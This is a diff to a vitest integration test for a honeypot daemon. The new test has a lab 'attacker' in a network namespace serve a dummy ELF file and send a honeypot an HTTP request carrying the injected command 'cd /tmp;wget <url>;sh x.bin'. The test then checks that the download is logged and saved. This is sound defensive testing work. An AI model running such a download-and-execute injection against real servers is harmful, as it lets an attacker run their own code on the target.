@@ -5,14 +5,20 @@
 // <tmp>/honeytrap), and real ncat clients attack over IPv4 and IPv6
 // loopback. Each attack must reach all three files, byte for byte what was
 // sent, and the daemon must come up and run as it does without them.
+// Then with http-download beside them, in namespaces: an attacker serving a
+// file over nginx sends a wget line; the file it serves must be in
+// attackers.json's downloads_0 fields and in save-file's downloads folder.
 import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { cp, mkdir, readFile, readdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { honeytrap, showAttack, type Attack } from '../lib/cli.js';
+import { honeytrap, runProgram, showAttack, type Attack } from '../lib/cli.js';
 import { waitUntil } from '../lib/clients.js';
 import { HoneytrapDaemon, REPO, cleanup, makeTempDir, testConfig } from '../lib/daemon.js';
+import { Netns } from '../lib/netns.js';
+import { requireTools } from '../lib/ns-clients.js';
+import { startNginx } from '../lib/peer-servers.js';
 import { freePort } from '../lib/ports.js';
 
 const OUTPUTS = ['log-json', 'log-attacker', 'save-file'];
@@ -55,9 +61,14 @@ function ncat(address: string, data: Buffer, sourcePort: number): Promise<void> 
   });
 }
 
-/** The attack the daemon stored for a client, once every output plugin's record is there. */
-async function attackFrom(address: string, sourcePort: number): Promise<Attack> {
-  const line = await daemon.waitForLog(
+/** The attack `d` stored for a client, once the records of `plugins` are there. */
+async function attackFrom(
+  address: string,
+  sourcePort: number,
+  d = daemon,
+  plugins = OUTPUTS,
+): Promise<Attack> {
+  const line = await d.waitForLog(
     (l) =>
       l.msg === 'attack' &&
       (l.remote === `${address}:${sourcePort}` || l.remote === `[${address}]:${sourcePort}`),
@@ -68,11 +79,11 @@ async function attackFrom(address: string, sourcePort: number): Promise<Attack> 
   let last: Attack | undefined;
   await waitUntil(
     async () => {
-      last = await showAttack(daemon.storeDir, id);
-      return OUTPUTS.every((p) => p in last!.plugins);
+      last = await showAttack(d.storeDir, id);
+      return plugins.every((p) => p in last!.plugins);
     },
-    15_000,
-    `the output plugins' records on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
+    30_000,
+    `the records of ${plugins.join(', ')} on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
   );
   return last!;
 }
@@ -83,18 +94,37 @@ async function lines(file: string): Promise<string[]> {
   return text.slice(0, -1).split('\n');
 }
 
+/** Copies shipped plugins into `dir` as an operator installs them: the folders, without their tests. */
+async function install(dir: string, names: string[]): Promise<void> {
+  await mkdir(dir, { recursive: true });
+  for (const p of names)
+    await cp(join(REPO, 'plugins', p), join(dir, p), {
+      recursive: true,
+      filter: (src) => !/[/\\](test|node_modules|dist)$/.test(src),
+    });
+}
+
+/** Waits until `names` are ready in `d` (honeytrap plugins list). */
+async function ready(d: HoneytrapDaemon, names: string[]): Promise<void> {
+  let last = '';
+  await waitUntil(
+    async () => {
+      const r = await honeytrap(['plugins', 'list', '--json', '--data-dir', d.storeDir]);
+      last = r.stdout;
+      const list = JSON.parse(r.stdout) as { name: string; state: string }[];
+      return names.every((n) => list.some((p) => p.name === n && p.state === 'ready'));
+    },
+    30_000,
+    `${names.join(', ')} ready (last: ${last})`,
+  );
+}
+
 beforeAll(async () => {
   tmp = await makeTempDir('honeytrap-outputs-');
   const pluginsDir = join(tmp, 'plugins');
   logDir = join(tmp, 'honeytrap', 'log');
   saveDir = join(tmp, 'honeytrap');
-  await mkdir(pluginsDir);
-  // As an operator installs them: the folders, without their tests.
-  for (const p of OUTPUTS)
-    await cp(join(REPO, 'plugins', p), join(pluginsDir, p), {
-      recursive: true,
-      filter: (src) => !/[/\\](test|node_modules)$/.test(src),
-    });
+  await install(pluginsDir, OUTPUTS);
   port = await freePort();
   daemon = await HoneytrapDaemon.start((dir) => ({
     ...testConfig(dir, {
@@ -106,15 +136,7 @@ beforeAll(async () => {
       files: { dirs: { 'log-json': logDir, 'log-attacker': logDir, 'save-file': saveDir } },
     },
   }));
-  await waitUntil(
-    async () => {
-      const r = await honeytrap(['plugins', 'list', '--json', '--data-dir', daemon.storeDir]);
-      const list = JSON.parse(r.stdout) as { name: string; state: string }[];
-      return OUTPUTS.every((n) => list.some((p) => p.name === n && p.state === 'ready'));
-    },
-    20_000,
-    'the three output plugins ready',
-  );
+  await ready(daemon, OUTPUTS);
 }, 60_000);
 
 afterAll(cleanup);
@@ -216,4 +238,107 @@ describe('log-json, log-attacker and save-file in a daemon', () => {
       expect(r.findings.map((f) => f.value)).toEqual([name]);
     }
   });
+});
+
+describe('with http-download: a file the attacker serves reaches attackers.json and downloads/', () => {
+  const ATTACKER = '10.99.66.2';
+  const SENSOR = '10.99.66.1';
+  const BIN = Buffer.concat([Buffer.from('\x7fELF\x01\x01\x01\x00'), Buffer.alloc(120, 0x41)]);
+  let net: Netns;
+  let d: HoneytrapDaemon;
+  let dir = '';
+  /** The trapped port, in the sensor's own namespace. */
+  const hp = 8080;
+
+  beforeAll(async () => {
+    requireTools(['nginx', 'ncat']);
+    net = Netns.create('outputs', ['att', 'hp']);
+    net.link('att', `${ATTACKER}/24`, 'hp', `${SENSOR}/24`);
+    await startNginx(net, 'att', ATTACKER, 'index\n', 80, { files: { 'bins/x.bin': BIN } });
+    dir = await makeTempDir('honeytrap-outputs-dl-');
+    const pluginsDir = join(dir, 'plugins');
+    await install(pluginsDir, [...OUTPUTS, 'http-download']);
+    // http-download is bundled from its sources (dist/ is not shipped in the repository)
+    const built = await runProgram(process.execPath, [
+      join(REPO, 'sdk', 'bin', 'honeytrap-plugin.js'),
+      'build',
+      join(pluginsDir, 'http-download'),
+    ]);
+    expect(built.code, built.stdout + built.stderr).toBe(0);
+    d = await HoneytrapDaemon.start(
+      (store) => ({
+        ...testConfig(store, {
+          ports: [{ port: hp, template: '80_tcp' }],
+          capture: { addresses: [SENSOR] },
+        }),
+        plugins: {
+          dirs: [pluginsDir],
+          // 10.99.x.x is a private range: the lab's policy allows it
+          network: { allowPrivate: true },
+          files: {
+            dirs: {
+              'log-json': join(dir, 'log'),
+              'log-attacker': join(dir, 'log'),
+              'save-file': dir,
+            },
+          },
+        },
+      }),
+      { netns: { net, node: 'hp' } },
+    );
+    await ready(d, [...OUTPUTS, 'http-download']);
+  }, 120_000);
+
+  afterAll(async () => {
+    await d?.stop();
+    await net?.teardown();
+  });
+
+  test('downloads_0 in attackers.json and downloads/<md5>-x.bin hold the file', async () => {
+    const url = `http://${ATTACKER}/bins/x.bin`;
+    const data = Buffer.from(
+      `GET /shell?cd+/tmp;wget+${url};sh+x.bin HTTP/1.1\r\nHost: ${SENSOR}\r\n\r\n`,
+    );
+    const sourcePort = 45123;
+    const r = await net.exec(
+      'att',
+      ['ncat', '-p', String(sourcePort), '--send-only', SENSOR, String(hp)],
+      { input: data },
+    );
+    expect(r.code, r.stderr).toBe(0);
+    const a = await attackFrom(ATTACKER, sourcePort, d, ['http-download', ...OUTPUTS]);
+    const dl = (a.plugins['http-download'] as Record_).findings.filter(
+      (f) => f.type === 'download',
+    );
+    expect(dl.map((f) => [f.value, f.meta?.status])).toEqual([[url, 'ok']]);
+    for (const p of OUTPUTS) expect((a.plugins[p] as Record_).status).toBe('ok');
+
+    const [line] = await lines(join(dir, 'log', 'attackers.json'));
+    const rec = JSON.parse(line!) as Record<string, unknown>;
+    expect([rec.download_count, rec.download_tries]).toEqual([1, 1]);
+    expect(rec.downloads).toEqual({
+      protocol_0: 'tcp',
+      remote_ip_0: ATTACKER,
+      remote_port_0: 80,
+      local_ip_0: SENSOR,
+      local_port_0: hp,
+      type_0: 'http',
+      username_0: '',
+      password_0: '',
+      uri_0: url,
+      filename_0: 'x.bin',
+      payload_0: {
+        md5_hash: md5(BIN),
+        sha512_hash: sha512(BIN),
+        length: BIN.length,
+        data_hex: BIN.toString('hex'),
+      },
+    });
+    expect(await readFile(join(dir, 'downloads', `${md5(BIN)}-x.bin`))).toEqual(BIN);
+    expect(await readdir(join(dir, 'attacks'))).toEqual([
+      `from_port_${hp}-tcp_${a.id}_${a.startedAt.slice(0, 10)}`,
+    ]);
+    const [logLine] = await lines(join(dir, 'log', 'attacker.log'));
+    expect(logLine).toContain(`tcp ${ATTACKER}:${sourcePort} -> ${SENSOR}:${hp} ${md5(data)} `);
+  }, 60_000);
 });
